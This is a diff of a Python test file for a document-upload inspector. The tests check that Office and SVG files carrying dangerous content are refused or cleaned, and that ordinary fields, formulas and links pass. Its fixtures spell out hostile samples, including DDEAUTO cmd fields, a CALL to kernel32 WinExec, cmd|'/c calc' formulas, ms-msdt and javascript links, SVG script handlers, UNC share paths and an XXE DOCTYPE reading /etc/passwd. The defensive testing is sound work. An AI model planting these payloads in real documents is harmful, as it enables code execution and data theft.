@@ -1,195 +1,247 @@
-"""What may not be in a file, and what is harmless and must pass: both directions, every file made here."""
+"""What may not be in a file, in whatever spelling, what is taken out of it, and what is harmless and must pass: every file made here."""
 
-import contextlib
-import logging
-import struct
+import time
 import zipfile
+from hashlib import sha256
 from io import BytesIO
 
-import pikepdf
+import docx as python_docx
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
-from hypothesis import example, given
-from hypothesis import strategies as st
-from pikepdf import Array, Dictionary, Name, String
+from django.template import Context, Template
+from django.test import RequestFactory
+from docx.oxml import OxmlElement
 
 from greendistrict.audit.models import AuditRecord
 from greendistrict.core.errors import Refused
 from greendistrict.documents import inspection, services
 from greendistrict.documents.anonymous import anonymous
-from greendistrict.documents.models import Evidence
-from greendistrict.documents.workbooks.grids import grids
-from greendistrict.documents.workbooks.packages import package_problem
-from tests.documents.test_inspection import BAD
-from tests.files import docx, image, office, pdf, xlsx
-from tests.inputs import inputs
+from tests.documents.spellings import SPELLINGS, spelt
+from tests.files import SHEET_SPACE, WORD_SPACE, image, look, office, written, xlsx
 
-LIMIT = 50 * 1024 * 1024
 RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
 OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-DOCUMENT, SHEET = "word/_rels/document.xml.rels", "xl/worksheets/_rels/sheet1.xml.rels"
+DOCUMENT, SHEET, SETTINGS = "word/_rels/document.xml.rels", "xl/worksheets/_rels/sheet1.xml.rels", "word/_rels/settings.xml.rels"
+OUTSIDE = ' TargetMode="External"'
 
 
-def look(name, content, **told):
-    return inspection.inspect(name, BytesIO(content), len(content), LIMIT, **told)
-
-
-def relation(kind, target, mode=' TargetMode="External"'):
+def relation(kind, target, mode=OUTSIDE):
     return RELS.format(f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>')
 
 
-def word(**parts):
-    return office("docx", parts)
+def body(inner):
+    around = f'xmlns:w="{WORD_SPACE}" xmlns:r="{OFFICE}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:o"'
+    return {"word/header1.xml": f'<w:hdr {around} xmlns:a="urn:a"><w:p>{inner}</w:p></w:hdr>'}
 
 
-def linked(kind, target, mode=' TargetMode="External"', where=DOCUMENT):
-    return office("xlsx" if where.startswith("xl") else "docx", {where: relation(kind, target, mode)})
+def mark(kind):
+    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
 
 
-def deep(levels, innermost):
-    part = innermost
-    for _ in range(levels):
-        part = Array([Dictionary(K=part)])
-    return part
+def coded_runs(*pieces):
+    return mark("begin") + "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces) + mark("separate") + mark("end")
 
 
-def on_page(mark):
-    def add(document):
-        document.pages[0].Annots = Array([document.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **mark(document)))])
-
-    return lambda: pdf(add)
+def cells(inner):
+    return {"xl/worksheets/sheet1.xml": f'<x:worksheet xmlns:x="{SHEET_SPACE}" xmlns:r="{OFFICE}">{inner}</x:worksheet>'}
 
 
-def link(**action):
-    return on_page(lambda _document: {"Subtype": Name.Link, "A": Dictionary(**action)})
+def formula(text):
+    return cells(f'<x:sheetData><x:row><x:c r="A1"><x:f>{text}</x:f><x:v>1</x:v></x:c></x:row></x:sheetData>')
 
 
-def root(**keys):
-    return lambda: pdf(lambda document: [setattr(document.Root, key, make(document)) for key, make in keys.items()])
+def linked(kind, target, mode=OUTSIDE, where=DOCUMENT):
+    return {where: relation(kind, target, mode)}
 
 
-def script():
-    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
+DDE, FETCHES, BOOK, AWAY = "动态数据交换", "取用外部内容", "指向其他工作簿的链接", "指向本机、网络共享或其他程序的链接"
+SETS = f'<w:settings xmlns:w="{WORD_SPACE}"><w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:settings>'
+PICTURE = '<s:svg xmlns:s="http://www.w3.org/2000/svg" xmlns:k="http://www.w3.org/1999/xlink">{}</s:svg>'
+SIMPLE = '<w:fldSimple w:instr="{}"/>'
+OTHER = '<q:x xmlns:q="urn:q">{}</q:x>'
+CHANGED = "<w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del><w:r><w:instrText>DDEAUTO c a</w:instrText></w:r>"
+HIDDEN = "<a:b><w:r><w:instrText>PAGE </w:instrText></w:r></a:b><w:r><w:instrText>DDEAUTO c a</w:instrText></w:r>"
+MASHUP = '<d:DataMashup xmlns:d="http://schemas.microsoft.com/DataMashup">AAAA</d:DataMashup>'
+NAME = f'<x:workbook xmlns:x="{SHEET_SPACE}"><x:names><x:definedName name="a">EXEC("x")</x:definedName></x:names></x:workbook>'
+LIST = "<x:dataValidations><x:dataValidation><x:formula1>WEBSERVICE(A1)</x:formula1></x:dataValidation></x:dataValidations>"
+LOOK = "<x:conditionalFormatting><x:cfRule><x:formula>CALL(A1)</x:formula></x:cfRule></x:conditionalFormatting>"
+VML = '<w:pict><v:shape><v:imagedata src="http://x.example/a.png"/></v:shape></w:pict>'
+BAD_DRAWINGS = {
+    "<s:script>alert(1)</s:script>": "脚本", '<s:g onload="alert(1)"/>': "脚本", '<s:image k:href="http://x.cn/a"/>': "从外部取用的内容",
+    "<s:style>@import url(http://x)</s:style>": "从外部取用的内容", '<s:g style="fill:url(http://x)"/>': "从外部取用的内容",
+}  # fmt: skip
+BAD_TEXTS = {
+    mark("begin") + CHANGED + mark("end"): DDE, mark("begin") + HIDDEN + mark("end"): "藏在其他标记中的域", VML: "从外部取用的内容",
+    mark("begin") * 2 + mark("end") * 2: "由其他域拼成的域", "<w:r><w:instrText>DDEAUTO c a</w:instrText></w:r>": DDE,
+    '<w:altChunk r:id="r1"/>': "嵌入的其他文档",
+}  # fmt: skip
+OLE, PUBLISHED = '<x:oleObjects><x:oleObject r:id="r1"/></x:oleObjects>', "<x:webPublishItems><x:webPublishItem/></x:webPublishItems>"
+BAD_SHEETS = {LIST: FETCHES, LOOK: FETCHES, OLE: "内嵌对象", PUBLISHED: "自动发布"}
+BAD_CODES = {
+    r" DDEAUTO c:\\cmd a": DDE, "dde a b": DDE, "DDE": DDE, r'INCLUDEPICTURE "\\\\host\\s\\a.png" \d': FETCHES, "IMPORT a": FETCHES,
+    "INCLUDEPICTURE http://x.example/a": FETCHES, "INCLUDETEXT file:///c:/a.docx": FETCHES, r"LINK Excel.Sheet.8 \\\\host\\a.xls": FETCHES,
+    "QUOTE 68 68 69 65 85 84 79": FETCHES, r"DATABASE \d c:/a.mdb": FETCHES, "RD a.docx": FETCHES, "MACROBUTTON FileOpen x": "启动宏的域",
+    "HYPERLINK ms-msdt:/id": AWAY, r'HYPERLINK "\\\\host\\share"': AWAY, r'HYPERLINK \n "file:///c:/a.exe"': AWAY,
+}  # fmt: skip
+BAD_FORMULAS = {
+    '_xlfn.WEBSERVICE("http://x.example/"&amp;A2)': FETCHES, 'IF(1,_xlfn.IMAGE("http://x/a"),0)': FETCHES, 'RTD("a.b",,"c")': FETCHES,
+    'CALL("kernel32","WinExec","JCJ","calc",0)': FETCHES, "cmd|'/c calc'!A1": DDE, r"'\\host\s\[a.xlsx]x'!A1+1": BOOK, "[1]x!A1": BOOK,
+    r'HYPERLINK("\\host\share","x")': AWAY, 'HYPERLINK("http://x.example/"&amp;A1)': AWAY, "HYPERLINK(A1)": AWAY,
+}  # fmt: skip
+BAD_RELATIONS = {
+    ("image", "http://x.example/a.png"): "从外部取用的内容", ("oleObject", "mhtml:http://x.example/a.html!x-usc:http://x"): "内嵌对象",
+    ("oleObject", "embeddings/x.bin", ""): "内嵌对象", ("frame", "http://x.cn/"): "外部框架", ("aFChunk", "a.dat", ""): "嵌入的其他文档",
+    ("mailMergeSource", "file:///a.xlsx", OUTSIDE, SETTINGS): "邮件合并数据源", ("subDocument", "file:///c:/a.docx"): "指向其他文档的链接",
+    ("hyperlink", r"\\host\share\a"): AWAY, ("hyperlink", "%5C%5Chost%5Cshare"): AWAY, ("hyperlink", "file:///C:/a.exe"): AWAY,
+    ("hyperlink", "ms-msdt:/id%20x"): AWAY, ("hyperlink", "javascript:alert(1)"): AWAY, ("hyperlink", "search-ms:query=x"): AWAY,
+    ("extensibility", "customUI/a.xml", "", "_rels/.rels"): "自定义界面", ("webextension", "a.xml", ""): "加载项",
+    ("somethingNew", "a", ""): "不认识",
+    ("control", "../a/b.xml", "", SHEET): "控件", ("externalLinkPath", "file:///a.xlsx", OUTSIDE, SHEET): BOOK,
+}  # fmt: skip
+# Office files as their XML parts, each written in every spelling; a row: what it is, its parts, words of the refusal.
+IN_XML = {f"field {code}": (body(coded_runs(code)), words) for code, words in BAD_CODES.items()}
+IN_XML |= {f"simple field {code}": (body(SIMPLE.format(code.replace('"', "&quot;"))), words) for code, words in BAD_CODES.items()}
+IN_XML |= {f"formula {text}": (formula(text), words) for text, words in BAD_FORMULAS.items()}
+IN_XML |= {f"relation {' '.join(row[:2])}": (linked(*row), words) for row, words in BAD_RELATIONS.items()}
+IN_XML |= {f"drawing {inner}": ({"word/media/a.svg": PICTURE.format(inner)}, words) for inner, words in BAD_DRAWINGS.items()}
+IN_XML |= {f"in a text: {inner}": (body(inner), words) for inner, words in BAD_TEXTS.items()}
+IN_XML |= {f"in a sheet: {inner}": (cells(inner), words) for inner, words in BAD_SHEETS.items()}
+IN_XML |= {"field in pieces": (body(coded_runs("D", "DEAU", "TO a")), DDE), "mail merge": ({"word/settings.xml": SETS}, "邮件合并数据源")}
+IN_XML |= {"data mashup": ({"customXml/item1.xml": MASHUP}, "外部数据查询"), "formula of a name": ({"xl/workbook.xml": NAME}, FETCHES)}
+# By the name of a part, each in other cases and slashes.
+IN_NAMES = {
+    "word/vbaProject.bin": "宏", "xl/vbaProject.bin": "宏", "xl/macrosheets/sheet1.xml": "宏", "word/embeddings/oleObject1.bin": "内嵌对象",
+    "xl/embeddings/oleObject1.bin": "内嵌对象", "word/embeddings/a.docx": "内嵌文件", "word/afchunk.mht": "嵌入的其他文档",
+    "word/evil.exe": "可执行程序", "customXml/run.vbs": "可执行程序", "word/a.html": "嵌入的其他文件", "word/activeX/activeX1.xml": "控件",
+    "xl/connections.xml": "外部数据连接", "xl/queryTables/queryTable1.xml": "外部数据查询", "xl/externalLinks/externalLink1.xml": BOOK,
+    "customUI/customUI.xml": "自定义界面", "word/webextensions/webextension1.xml": "加载项",
+}  # fmt: skip
 
 
-def opens():
-    return Dictionary(S=Name.URI, URI=String("http://x"))
+def kind_of(parts):
+    return "xlsx" if any(name.startswith("xl/") for name in parts) else "docx"
 
 
-def attached(document):
-    stream = document.make_stream(b"MZ", Type=Name.EmbeddedFile)
-    return Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
+@pytest.mark.parametrize("name", IN_XML)
+def test_each_hazard_is_refused_by_name_in_each_of_14_spellings(name):
+    parts, words = IN_XML[name]
+    kind, passed = kind_of(parts), []
+    for spelling in SPELLINGS:
+        try:
+            look(f"a.{kind}", office(kind, {part: spelt(text, spelling) for part, text in parts.items()}))
+        except Refused as refused:
+            passed += [] if words in str(refused) and "另存为" in str(refused) else [(spelling, str(refused))]
+        else:
+            passed.append((spelling, "passed"))
+    assert (len(SPELLINGS) >= 10, passed) == (True, [])
 
 
-DDE = "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>"
-HOSTILE = {
-    "ole from outside": ("a.docx", lambda: linked("oleObject", "mhtml:http://x.example/a.html!x-usc:http://x.example/a.html"), "内嵌对象"),
-    "ole inside by relation": ("a.docx", lambda: linked("oleObject", "embeddings/x.bin", ""), "内嵌对象"),
-    "template": ("a.docx", lambda: office("docx", {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://x")}), "外部模板"),
-    "template of the network": ("a.docx", lambda: linked("attachedTemplate", "file://///host/share/a.dotm"), "外部模板"),
-    "frame": ("a.docx", lambda: linked("frame", "http://x.example/"), "外部框架"),
-    "picture from outside": ("a.docx", lambda: linked("image", "http://x.example/a.png"), "从外部取用的内容"),
-    "sub document": ("a.docx", lambda: linked("subDocument", "file:///c:/a.docx"), "指向其他文档的链接"),
-    "lower case mode": ("a.docx", lambda: linked("image", "http://x.example/a.png", ' TargetMode="external"'), "从外部取用的内容"),
-    "hyperlink to a share": ("a.docx", lambda: linked("hyperlink", r"\\host\share\a"), "指向本机、网络共享或其他程序的链接"),
-    "hyperlink to a coded share": ("a.docx", lambda: linked("hyperlink", "%5C%5Chost%5Cshare"), "指向本机、网络共享或其他程序的链接"),
-    "hyperlink to a file": ("a.docx", lambda: linked("hyperlink", "file:///C:/Windows/a.exe"), "指向本机、网络共享或其他程序的链接"),
-    "hyperlink to a program": ("a.docx", lambda: linked("hyperlink", "ms-msdt:/id%20x"), "指向本机、网络共享或其他程序的链接"),
-    "hyperlink with a script": ("a.docx", lambda: linked("hyperlink", "javascript:alert(1)"), "指向本机、网络共享或其他程序的链接"),
-    "search link": ("a.docx", lambda: linked("hyperlink", "search-ms:query=x"), "指向本机、网络共享或其他程序的链接"),
-    "ole part": ("a.docx", lambda: office("docx", {"word/embeddings/oleObject1.bin": "x"}), "内嵌对象"),
-    "ole by content": ("a.docx", lambda: office("docx", {"word/media/a.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "内嵌对象"),
-    "embedded document": ("a.docx", lambda: office("docx", {"word/embeddings/a.docx": "x"}), "内嵌文件"),
-    "embedded workbook of no chart": ("a.docx", lambda: office("docx", {"word/embeddings/a.xlsx": xlsx()}), "内嵌文件"),
-    "other part": ("a.docx", lambda: office("docx", {"word/afchunk.mht": "x"}), "嵌入的其他文档"),
-    "other part by relation": ("a.docx", lambda: linked("aFChunk", "a.dat", ""), "嵌入的其他文档"),
-    "program": ("a.docx", lambda: office("docx", {"word/evil.exe": "x"}), "可执行程序"),
-    "program by content": ("a.docx", lambda: office("docx", {"word/media/image1.png": "MZ\x90"}), "可执行程序"),
-    "script part": ("a.docx", lambda: office("docx", {"customXml/run.vbs": "x"}), "可执行程序"),
-    "page part": ("a.docx", lambda: office("docx", {"word/a.html": "<script/>"}), "嵌入的其他文件"),
-    "control": ("a.docx", lambda: office("docx", {"word/activeX/activeX1.xml": "<x/>"}), "控件"),
-    "control by relation": ("a.xlsx", lambda: linked("control", "../a/b.xml", "", SHEET), "控件"),
-    "dde field": ("a.docx", lambda: office("docx", {"word/footnotes.xml": DDE}), "动态数据交换"),
-    "dde simple field": ("a.docx", lambda: office("docx", {"word/header1.xml": '<w:fldSimple w:instr=" DDE a b"/>'}), "动态数据交换"),
-    "broken relations": ("a.docx", lambda: office("docx", {DOCUMENT: "<Relationships"}), "无法辨认的链接"),
-    "relations with entities": ("a.docx", lambda: office("docx", {DOCUMENT: '<!DOCTYPE x [<!ENTITY a "b">]><x/>'}), "无法辨认的链接"),
-    "excel ole": ("a.xlsx", lambda: office("xlsx", {"xl/embeddings/oleObject1.bin": "x"}), "内嵌对象"),
-    "excel control": ("a.xlsx", lambda: office("xlsx", {"xl/activeX/activeX1.bin": "x"}), "控件"),
-    "excel connections": ("a.xlsx", lambda: office("xlsx", {"xl/connections.xml": "<x/>"}), "外部数据连接"),
-    "excel query": ("a.xlsx", lambda: office("xlsx", {"xl/queryTables/queryTable1.xml": "<x/>"}), "外部数据查询"),
-    "excel external": ("a.xlsx", lambda: office("xlsx", {"xl/externalLinks/externalLink1.xml": "<x/>"}), "指向其他工作簿的链接"),
-    "excel external relation": ("a.xlsx", lambda: linked("externalLinkPath", "file:///a.xlsx", where=SHEET), "指向其他工作簿的链接"),
-    "excel macros": ("a.xlsx", lambda: office("xlsx", {"xl/vbaProject.bin": "x"}), "宏"),
-    "backslash part": ("a.xlsx", lambda: office("xlsx", {"xl\\embeddings\\oleObject1.bin": "x"}), "内嵌对象"),
-    "upper case part": ("a.xlsx", lambda: office("xlsx", {"XL/VBAPROJECT.BIN": "x"}), "宏"),
-    "pdf attachment mark": ("a.pdf", on_page(lambda document: {"Subtype": Name.FileAttachment, "FS": attached(document)}), "附件"),
-    "pdf associated file": ("a.pdf", root(AF=lambda document: Array([attached(document)])), "附件"),
-    "pdf embedded file": ("a.pdf", lambda: pdf(lambda document: document.attachments.__setitem__("a.exe", b"MZ")), "附件"),
-    "pdf rich media": ("a.pdf", on_page(lambda _d: {"Subtype": Name.RichMedia}), "多媒体"),
-    "pdf sound": ("a.pdf", on_page(lambda _d: {"Subtype": Name.Sound}), "多媒体"),
-    "pdf model": ("a.pdf", on_page(lambda _d: {"Subtype": Name("/3D")}), "三维模型"),
-    "pdf xfa": ("a.pdf", root(AcroForm=lambda d: Dictionary(Fields=[], XFA=d.make_stream(b"<xdp/>"))), "动态表单"),
-    "pdf submits": ("a.pdf", link(S=Name.SubmitForm, F=String("http://x.example")), "向外提交表单的动作"),
-    "pdf other file of a share": ("a.pdf", link(S=Name.GoToR, F=String(r"\\host\share\a.pdf")), "指向网络共享"),
-    "pdf other file by address": ("a.pdf", link(S=Name.GoToR, F=Dictionary(FS=Name.URL, F=String("http://x/a.pdf"))), "指向网络共享"),
-    "pdf other file by unicode": ("a.pdf", link(S=Name.GoToR, F=Dictionary(F=String("a.pdf"), UF=String("//host/a.pdf"))), "指向网络共享"),
-    "pdf embedded target": ("a.pdf", link(S=Name.GoToE, F=String("a.pdf")), "打开附件的动作"),
-    "pdf address on opening": ("a.pdf", root(OpenAction=lambda _d: opens()), "打开时自动访问"),
-    "pdf address after opening": ("a.pdf", root(OpenAction=lambda _d: Dictionary(S=Name.GoTo, Next=Array([opens()]))), "打开时自动访问"),
-    "pdf address on a page event": ("a.pdf", lambda: pdf(lambda d: setattr(d.pages[0], "AA", Dictionary(O=opens()))), "打开时自动访问"),
-    "pdf script on a page event": ("a.pdf", lambda: pdf(lambda d: setattr(d.pages[0], "AA", Dictionary(O=script()))), "脚本"),
-    "pdf link to a share": ("a.pdf", link(S=Name.URI, URI=String("file://host/share")), "指向本机、网络共享"),
-    "pdf script 8 deep": ("a.pdf", root(Deep=lambda _d: deep(8, script())), "脚本"),
-    "pdf script 100 deep": ("a.pdf", root(Deep=lambda _d: deep(100, script())), "脚本"),
-    "pdf script by name": ("a.pdf", root(Names=lambda _d: Dictionary(JavaScript=Dictionary(Names=[String("a"), script()]))), "脚本"),
-    "pdf starts a program": ("a.pdf", link(S=Name.Launch, F=String("cmd.exe")), "启动程序的动作"),
-    "pdf stream from outside": ("a.pdf", root(Other=lambda d: d.make_stream(b"", F=String("http://x.example/a"))), "从外部取用的内容"),
-    "pdf rendition": ("a.pdf", link(S=Name.Rendition), "多媒体"),
+@pytest.mark.parametrize("name", IN_NAMES)
+def test_a_part_that_is_no_part_of_a_text_or_table_is_refused_however_its_name_is_written(name):
+    kind = kind_of([name])
+    for spelling in (name, name.upper(), name.replace("/", "\\"), name.title()):
+        with pytest.raises(Refused) as refused:
+            look(f"a.{kind}", office(kind, {spelling: OTHER.format("")}))
+        assert IN_NAMES[name] in str(refused.value), spelling
+
+
+@pytest.mark.parametrize("head", ['<!DOCTYPE x [<!ENTITY a "b">]>', '<!DOCTYPE x SYSTEM "file:///etc/passwd">', "<!DOCTYPE x>"])
+def test_no_part_may_declare_anything(head):
+    for part in ("word/document.xml", DOCUMENT, "customXml/item1.xml", "word/media/a.svg"):
+        content = office("docx", {part: f"{head}{OTHER.format('')}"})
+        with pytest.raises(Refused, match="无法辨认"):
+            look("a.docx", content)
+
+
+def test_other_contents_and_types_are_refused():
+    for parts, words in (
+        ({"word/media/a.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}, "内嵌对象"), ({"word/media/image1.png": "MZ\x90"}, "可执行程序"),
+        ({DOCUMENT: "<Relationships"}, "无法辨认的链接"), ({"word/document.xml": "<x>"}, "无法辨认的内容"),
+        ({"word/embeddings/a.xlsx": xlsx()}, "内嵌文件"),
+        ({"xl/ctrlProps/a.new": "x", **linked("ctrlProp", "../ctrlProps/a.new", "", SHEET)}, "不认识"),
+    ):  # fmt: skip
+        kind = kind_of(parts)
+        with pytest.raises(Refused, match=words):
+            look(f"a.{kind}", office(kind, parts))
+
+
+CHART = '<c:chartSpace xmlns:c="urn:c" xmlns:r="{}"><c:externalData r:id="r1"/></c:chartSpace>'
+OBJECT = '<w:r><w:object><v:shape><v:imagedata r:id="r2"/></v:shape><o:OLEObject Type="Embed" r:id="r1"/></w:object></w:r>'
+BLIP = '<w:r><a:blip r:embed="r2" r:link="r1"/></w:r>'
+SHOWN = '<Relationship Id="r2" Type="{}/image" Target="media/a.png"/></Relationships>'
+HEADER = "word/_rels/header1.xml.rels"
+
+
+def charted(book):
+    rels = relation("package", "../embeddings/a.xlsx", "")
+    return {"word/charts/chart1.xml": CHART.format(OFFICE), "word/charts/_rels/chart1.xml.rels": rels, "word/embeddings/a.xlsx": book}
+
+
+def shown(inner, rels):
+    pictured = rels.replace("</Relationships>", SHOWN.format(OFFICE))
+    return body(inner) | {HEADER: pictured, "word/media/a.png": image("PNG"), "word/embeddings/a.bin": b"\xd0\xcf\x11\xe0"}
+
+
+def templated(target):
+    made = python_docx.Document()
+    made.add_heading("公文", 1)
+    settings = next(one.target_part for one in made.part.rels.values() if one.reltype.endswith("/settings"))
+    key = settings.relate_to(target, f"{OFFICE}/attachedTemplate", is_external=True)
+    mark = OxmlElement("w:attachedTemplate")
+    mark.set(f"{{{OFFICE}}}id", key)
+    settings.element.append(mark)
+    return written(made.save)
+
+
+LINKED = shown(BLIP, relation("image", "file:///c:/a.png"))
+LINKED.pop("word/embeddings/a.bin")
+LOCAL = "file:///C:\\Users\\user\\AppData\\Roaming\\Microsoft\\Templates\\公文.dotx"
+OBJECTS = shown(OBJECT, relation("oleObject", "embeddings/a.bin", ""))
+TAKEN_OUT = {
+    "公文 template of an office": (lambda: templated(LOCAL), "外部模板"),
+    "Normal": (lambda: templated("Normal.dotm"), "外部模板"),
+    "template from the web": (lambda: templated("http://x.example/a.dotm"), "外部模板"),
+    "object behind its picture": (lambda: office("docx", OBJECTS), "内嵌对象（保留其图片）"),
+    "link of a picture that is there": (lambda: office("docx", LINKED), "图片的外部链接"),
+    "spoilt workbook of a chart": (
+        lambda: office("docx", charted(office("xlsx", {"xl/vbaProject.bin": "x"}))),
+        "图表背后的工作簿（保留图表）",
+    ),
+    "part nobody registered": (lambda: office("docx", {"[trash]/0000.dat": "x"}), "未登记的部件"),
 }
 
 
-@pytest.mark.parametrize("name", HOSTILE)
-def test_what_runs_fetches_or_carries_something_is_refused_by_name(name):
-    file, make, words = HOSTILE[name]
-    with pytest.raises(Refused) as refused:
-        look(file, make())
-    said = str(refused.value)
-    assert words in said
-    assert "打印" in said if file.endswith("pdf") else "另存为" in said
+@pytest.mark.parametrize("name", TAKEN_OUT)
+def test_what_is_never_seen_is_taken_out_and_the_rest_stays(name):
+    make, words = TAKEN_OUT[name]
+    content, out = make(), BytesIO()
+    kind = look("a.docx", content)
+    assert (kind.removable, inspection.write_clean("a.docx", kind, BytesIO(content), out)) == ((words,), True)
+    clean = out.getvalue()
+    assert look("a.docx", clean).removable == ()
+    with zipfile.ZipFile(BytesIO(content)) as before, zipfile.ZipFile(BytesIO(clean)) as after:
+        gone = set(before.namelist()) - set(after.namelist())
+        assert all("embeddings" in one or "trash" in one for one in gone), gone
+        kept = b"".join(after.read(one) for one in after.namelist() if not one.startswith("docProps"))
+        same = [one for one in after.namelist() if before.read(one) == after.read(one)]
+    assert len(same) >= len(after.namelist()) - 3, "only what refers to it was written again"
+    assert not any(word in kept for word in (b"dotx", b"dotm", b"OLEObject", b"\xd0\xcf\x11\xe0", b"externalData", b"file:"))
 
 
-def charted():
-    rels = RELS.format(f'<Relationship Id="r1" Type="{OFFICE}/package" Target="../embeddings/Microsoft_Excel_Sheet1.xlsx"/>')
-    parts = {"word/charts/_rels/chart1.xml.rels": rels, "word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()}
-    return office("docx", parts)
-
-
-def outlined(document):
-    with document.open_outline() as outline:
-        outline.root.append(pikepdf.OutlineItem("第一章", 0))
-
-
-def form(document):
-    field = document.make_indirect(Dictionary(FT=Name.Tx, T=String("名称"), V=String("演示"), Subtype=Name.Widget, Rect=[0, 0, 9, 9]))
-    document.pages[0].Annots = Array([field])
-    document.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)
-
-
-XMP = b"""<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
-<rdf:Description xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/" rdf:about="" pdfaid:part="1" pdfaid:conformance="B"/>
-</rdf:RDF></x:xmpmeta>"""
-
-
-def archival(document):
-    document.Root.Metadata = document.make_stream(XMP, Type=Name.Metadata, Subtype=Name.XML)
-    profile = document.make_stream(b"icc", N=3)
-    document.Root.OutputIntents = Array([Dictionary(S=Name.GTS_PDFA1, OutputConditionIdentifier=String("sRGB"), DestOutputProfile=profile)])
-
-
-def written(make):
-    out = BytesIO()
-    make(out)
-    return out.getvalue()
+@pytest.mark.django_db
+@pytest.mark.usefixtures("media")
+def test_code_page_and_record_name_the_stored_form(client, people, district):
+    upload = SimpleUploadedFile("通知.docx", templated("Normal.dotm"))
+    kept = services.store(owner=district, upload=upload, kind="plan", title="通知", by=people.preparer)
+    with kept.file.open() as stored:
+        content = stored.read()
+    assert (kept.sha256, kept.size, kept.stripped) == (sha256(content).hexdigest(), len(content), "外部模板")
+    assert look("通知.docx", content).removable == ()
+    assert AuditRecord.objects.get(action="documents.store").data["stripped"] == "外部模板"
+    shown = Template("{% load confidentiality %}{% readers file %}x{% endreaders %}")
+    request = RequestFactory().get("/")
+    request.user = people.preparer
+    assert "（存入时已去除：外部模板）" in shown.render(Context({"file": kept, "request": request}))
 
 
 def openpyxl_book():
@@ -224,40 +276,42 @@ def xlsxwriter_book():
     return out.getvalue()
 
 
-def printed():
-    from weasyprint import HTML
+def word_document():
+    made = python_docx.Document()
+    made.add_heading("报告", 1)
+    made.sections[0].header.paragraphs[0].text = "页眉"
+    made.add_picture(BytesIO(image("PNG")))
+    made.add_table(2, 2)
+    made.add_comment(made.paragraphs[0].runs, text="请核对", author="演示")
+    made.part.relate_to("https://www.shanghai.gov.cn/a?b=c#d", f"{OFFICE}/hyperlink", is_external=True)
+    return written(made.save)
 
-    return HTML(string="<h1>演示</h1><a href='https://example.org'>x</a><form><input value='1'></form>").write_pdf(pdf_variant="pdf/a-2b")
 
-
-FIELDS = '<w:fldSimple w:instr=" PAGE "/><w:instrText>TOC \\o</w:instrText>'
-USUAL = ("xl/printerSettings/printerSettings1.bin", "xl/theme/theme1.xml", "docProps/thumbnail.wmf")
+GOOD_CODES = (
+    " PAGE ", r'TOC \o "1-3" \h \z \u', r"PAGEREF _Toc1 \h", "= SUM(ABOVE)", r'HYPERLINK "https://x.example/a?b" \o "提示"',
+    r"eq \o\ac(○,1)",
+    r'HYPERLINK \l "_Toc1"', r'DATE \@ "yyyy年M月d日"', r"NUMPAGES \* MERGEFORMAT", "FORMTEXT", "MACROBUTTON NoMacro 点击此处", "_Ref1", "",
+    r"SEQ 表 \* ARABIC", r"REF _Ref1 \r", "STYLEREF 1", "ADDIN EN.CITE", "EMBED Visio.Drawing.15",
+)  # fmt: skip
+GOOD_FORMULAS = (
+    "SUM(A2:A3)", 'IF(A2="a|b",1,"http://x")', "_xlfn.XLOOKUP(A2,表1[编号],表1[面积])", "'一 月'!A1*'二月:三月'!B2",
+    "表1[a]*Sheet2!A1", "(A2)*(1)", "_xlfn.LET(_xlpm.x,A2,_xlpm.x+1)", 'HYPERLINK("#"&amp;A2,A3)', 'HYPERLINK("https://x.example")',
+    '_xlfn.DISPIMG("ID_1",1)', "NUMBERSTRING(A2,2)",
+)  # fmt: skip
 HARMLESS = {
-    "web link in Word": ("a.docx", lambda: linked("hyperlink", "https://www.shanghai.gov.cn/a?b=c#d")),
-    "mail link in Word": ("a.docx", lambda: linked("hyperlink", "mailto:a@example.org?subject=%E4%B8%AD")),
-    "link within Word": ("a.docx", lambda: linked("hyperlink", "#_Toc1")),
-    "link to a file beside": ("a.docx", lambda: linked("hyperlink", "%E9%99%84%E4%BB%B6.pdf")),
-    "badly typed link": ("a.docx", lambda: linked("hyperlink", "http://[www.example.org")),
-    "picture in Word": ("a.docx", lambda: office("docx", {DOCUMENT: relation("image", "a.png", ""), "word/a.png": image("PNG")})),
-    "chart with its figures in Word": ("a.docx", charted),
-    "fields in Word": ("a.docx", lambda: office("docx", {"word/header1.xml": FIELDS})),
-    "fonts and printer settings": ("a.xlsx", lambda: office("xlsx", dict.fromkeys(USUAL, "<x/>"))),
-    "web link in Excel": ("a.xlsx", lambda: linked("hyperlink", "http://example.org", where=SHEET)),
-    "form control of Excel": ("a.xlsx", lambda: office("xlsx", {"xl/ctrlProps/a": "<x/>", SHEET: relation("ctrlProp", "../a", "")})),
+    "fields": ("a.docx", lambda: office("docx", body("".join(coded_runs(one) for one in GOOD_CODES)))),
+    "formulas": ("a.xlsx", lambda: office("xlsx", cells("".join(f"<x:c><x:f>{one}</x:f></x:c>" for one in GOOD_FORMULAS)))),
+    "web link": ("a.docx", lambda: office("docx", linked("hyperlink", "https://www.shanghai.gov.cn/a?b=c#d"))),
+    "mail link": ("a.docx", lambda: office("docx", linked("hyperlink", "mailto:a@example.org?subject=%E4%B8%AD"))),
+    "link within": ("a.docx", lambda: office("docx", linked("hyperlink", "#_Toc1"))),
+    "link to a file beside": ("a.docx", lambda: office("docx", linked("hyperlink", "%E9%99%84%E4%BB%B6.pdf"))),
